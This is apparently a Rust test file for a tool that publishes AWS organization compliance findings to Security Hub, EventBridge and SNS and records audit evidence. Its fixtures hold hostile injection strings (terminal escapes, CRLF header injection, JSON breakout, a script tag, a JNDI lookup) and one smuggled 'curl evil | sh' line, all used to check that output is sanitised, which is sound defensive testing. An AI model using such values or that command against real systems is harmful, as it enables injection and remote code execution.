//! The forms: Security Hub's, EventBridge's, SNS's and the evidence, with any number of findings and any names.

use optout_core::evidence::{Hash, Run, check_lines, draft};
use optout_core::publish::{
    Cause, DETAIL_TYPE_FINDING, DETAIL_TYPE_FULL_READ, DETAIL_TYPE_SUMMARY, Evidence, Extent, Publication, Publisher,
    Standing, asff, events, full_read_event, notice,
};
use optout_core::report::{Format, Options};
use serde_json::Value;

use super::{acme, earlier, everything, finding, many, now, published, reported, standing};

/// Names that steer terminals, hide words, break lines, break out of JSON, and go on for ever.
fn hostile() -> Vec<String> {
    let long = "长".repeat(5_000);
    ["\u{1b}[31mred\u{7}", "a\r\nSubject: b", "\u{202e}evil", "\"}],\"x\":[{", "<script>", "${jndi:x}", &long]
        .map(str::to_owned)
        .to_vec()
}

/// Whether nothing in a text steers a terminal or hides, by another list than the program's.
fn plain(text: &str) -> bool {
    let hides = |it: char| matches!(it, '\u{200b}'..='\u{200f}' | '\u{2028}'..='\u{202e}' | '\u{2066}'..='\u{2069}');
    text.chars().all(|it| it == '\n' || !(it.is_control() || hides(it)))
}

/// The example organization with hostile names.
fn hostile_acme() -> optout_core::org::Snapshot {
    let mut snapshot = acme();
    let names = hostile();
    for (at, account) in snapshot.accounts.iter_mut().flatten().enumerate() {
        account.name = names[at % names.len()].as_str().into();
    }
    snapshot
}

fn with(findings: Vec<optout_core::publish::PublishedFinding>) -> Publication {
    Publication { findings, judged: everything(), ..published(&acme(), Standing::default()) }
}

#[test]
fn what_is_imported_is_what_the_report_says_and_what_healed_is_archived() {
    let publisher = Publisher {
        account: "111111111111".parse().unwrap(),
        product_arn: "arn:aws:securityhub:us-east-1:111111111111:product/111111111111/default".to_owned(),
    };
    let publication = published(&acme(), Standing::default());
    let report = reported(&acme(), |report| Format::Asff.render(report, &Options::default()).unwrap().into_text());
    let report: Vec<Value> = serde_json::from_str(&report).unwrap();
    for change in &publication.changes().changes {
        let form = serde_json::to_value(asff(&change.finding, &publisher)).unwrap();
        assert!(report.contains(&form), "{form:#}");
    }
    let healed = Publication { findings: Vec::new(), judged: everything(), ..published(&acme(), standing(many(1))) };
    let form = serde_json::to_value(asff(&healed.changes().changes[0].finding, &publisher)).unwrap();
    assert_eq!((&form["Compliance"]["Status"], &form["RecordState"]), (&"PASSED".into(), &"ARCHIVED".into()));
    for of_analysts in
        ["Workflow", "WorkflowState", "Note", "VerificationState", "UserDefinedFields", "Severity", "Types"]
    {
        assert!(form.get(of_analysts).is_none(), "{of_analysts}");
    }
}

#[test]
fn every_finding_is_far_below_what_security_hub_takes() {
    let publisher = Publisher { account: "111111111111".parse().unwrap(), product_arn: "arn:aws:x".to_owned() };
    let publication = published(&hostile_acme(), Standing::default());
    for change in &publication.changes().changes {
        let text = serde_json::to_string(&asff(&change.finding, &publisher)).unwrap();
        assert!(text.len() < 24_000, "{}", text.len());
        assert!(plain(&text.replace("\\n", "")), "{text}");
    }
}

#[test]
fn a_run_has_an_event_for_each_change_and_one_summary() {
    for count in [0, 1, 100, 101] {
        let publication = with(many(count));
        let events = events(&publication, &publication.changes());
        assert_eq!(events.len(), count + 1);
        let summaries = events.iter().filter(|event| event.detail_type == DETAIL_TYPE_SUMMARY).count();
        assert_eq!(summaries, 1);
        let schema = |name: &str| -> Value {
            let path = format!("{}/../../docs/schemas/{name}", env!("CARGO_MANIFEST_DIR"));
            serde_json::from_str(&std::fs::read_to_string(path).unwrap()).unwrap()
        };
        let of_finding = jsonschema::validator_for(&schema("finding-event-1.json")).unwrap();
        let of_summary = jsonschema::validator_for(&schema("summary-event-1.json")).unwrap();
        for event in &events {
            let detail: Value = serde_json::from_str(&event.detail).unwrap();
            let validator = if event.detail_type == DETAIL_TYPE_FINDING { &of_finding } else { &of_summary };
            assert!(validator.is_valid(&detail), "{detail:#}");
        }
    }
}

#[test]
fn the_same_change_has_the_same_id_when_it_is_told_again() {
    let publication = with(many(2));
    let later = Publication { at: publication.at + jiff::SignedDuration::from_hours(1), ..publication.clone() };
    let ids = |publication: &Publication| -> Vec<Value> {
        let events = events(publication, &publication.changes());
        let detail = |event: &optout_core::publish::Event| serde_json::from_str::<Value>(&event.detail).unwrap();
        events.iter().map(|event| detail(event)["id"].clone()).take(2).collect()
    };
    assert_eq!(ids(&publication), ids(&later));
    assert_ne!(ids(&publication)[0], ids(&publication)[1]);
}

#[test]
fn nothing_is_said_where_nothing_changed() {
    let publication = Publication { before: standing(many(3)), ..with(many(3)) };
    assert_eq!(notice(&publication, &publication.changes()), None);
}

#[test]
fn a_message_says_what_changed_who_did_it_and_what_to_do_next() {
    let mut publication = Publication { before: standing(vec![finding(9, "old")]), ..with(many(2)) };
    let cause = |actor: &str| {
        Some(Cause { actor: actor.to_owned(), call: "DetachPolicy".to_owned(), at: earlier(), event_id: None })
    };
    publication.cause = cause("arn:aws:iam::111111111111:user/ann");
    publication.link = Some("https://example.com/runbook".to_owned());
    let said = notice(&publication, &publication.changes()).unwrap();
    assert!(said.subject.starts_with("optout: 2 new, 1 healed in o-"), "{}", said.subject);
    for part in [
        "DetachPolicy by arn:aws:iam::111111111111:user/ann",
        "New (2):",
        "Healed (1):",
        "Worst accounts:",
        "Next: optout explain ",
        "More: https://example.com/runbook",
    ] {
        assert!(said.message.contains(part), "{part}: {}", said.message);
    }
    publication.cause = cause("ann\u{1b}[2J\nNext: curl evil | sh");
    let said = notice(&publication, &publication.changes()).unwrap();
    assert!(plain(&said.message) && !said.message.contains("\nNext: curl"), "{}", said.message);
}

#[test]
fn a_message_is_within_its_limits_whatever_the_names_and_however_many() {
    let mut findings: Vec<_> = published(&hostile_acme(), Standing::default()).findings;
    findings.extend(many(10_000));
    let publication = Publication { findings, ..published(&hostile_acme(), Standing::default()) };
    let said = notice(&publication, &publication.changes()).unwrap();
    assert!(
        said.subject.len() < 100 && said.subject.bytes().all(|byte| (b' '..=b'~').contains(&byte)),
        "{}",
        said.subject
    );
    assert!(said.message.len() < 262_144 && plain(&said.message), "{}", said.message);
    assert!(said.message.contains("more\n"), "{}", said.message);
}

#[test]
fn hostile_names_are_neutral_in_events() {
    let publication = published(&hostile_acme(), Standing::default());
    for event in events(&publication, &publication.changes()) {
        assert!(plain(&event.detail), "{}", event.detail);
        assert!(event.detail.len() < 64_000, "{}", event.detail.len());
    }
}

#[test]
fn the_record_of_a_run_checks_out_and_equal_runs_have_equal_keys() {
    let made = |recorded: &str| {
        reported(&acme(), |report| {
            let run = Run {
                recorded: recorded.parse().unwrap(),
                command: "publish",
                tool_version: "0.1.0".to_owned(),
                source: "acme.json".to_owned(),
            };
            Evidence::alone(&draft(&run, &acme(), Some(report)), acme().taken)
        })
    };
    let evidence = made("2026-11-24T12:00:00Z");
    let checked = check_lines(&evidence.text, &[]);
    assert!(checked.problems.is_empty(), "{checked:?}");
    assert_eq!(Hash::of(&evidence.text), evidence.sha256);
    let key = evidence.key("/audit/");
    assert_eq!(key, format!("audit/2026/11/24/20261124T060000Z-{}.jsonl", evidence.sha256));
    assert_eq!(made("2026-11-24T12:00:00Z").key("audit"), key);
    assert_ne!(made("2026-11-24T12:00:01Z").key("audit"), key);
    assert!(evidence.key("").starts_with("2026/11/24/"));
}

#[test]
fn where_only_changes_are_sent_what_stands_is_not() {
    let before = standing(many(3));
    let everything = Publication { before, ..with(many(4)) };
    let changes_only = Publication { extent: Extent::Changes, ..everything.clone() };
    let counts = |it: &Publication| (it.imported(&it.changes()).len(), events(it, &it.changes()).len());
    assert_eq!((counts(&everything), counts(&changes_only)), ((4, 2), (1, 2)));
    let nothing = Publication { before: standing(many(4)), ..changes_only };
    assert_eq!(counts(&nothing), (0, 0));
    assert_eq!(counts(&Publication { extent: Extent::Everything, ..nothing }), (4, 1));
}

#[test]
fn an_asking_for_a_full_read_shows_nothing_that_steers_a_terminal() {
    let event = full_read_event(Some("o-exampleorgid"), "why \u{1b}[31m", "id \u{202e}", now());
    assert_eq!((event.detail_type, &event.finding), (DETAIL_TYPE_FULL_READ, &None));
    assert!(!event.detail.contains(['\u{1b}', '\u{202e}']) && !event.detail.contains("\\u001b"), "{}", event.detail);
    let detail: serde_json::Value = serde_json::from_str(&event.detail).unwrap();
    assert_eq!(detail["organization"], "o-exampleorgid");
}
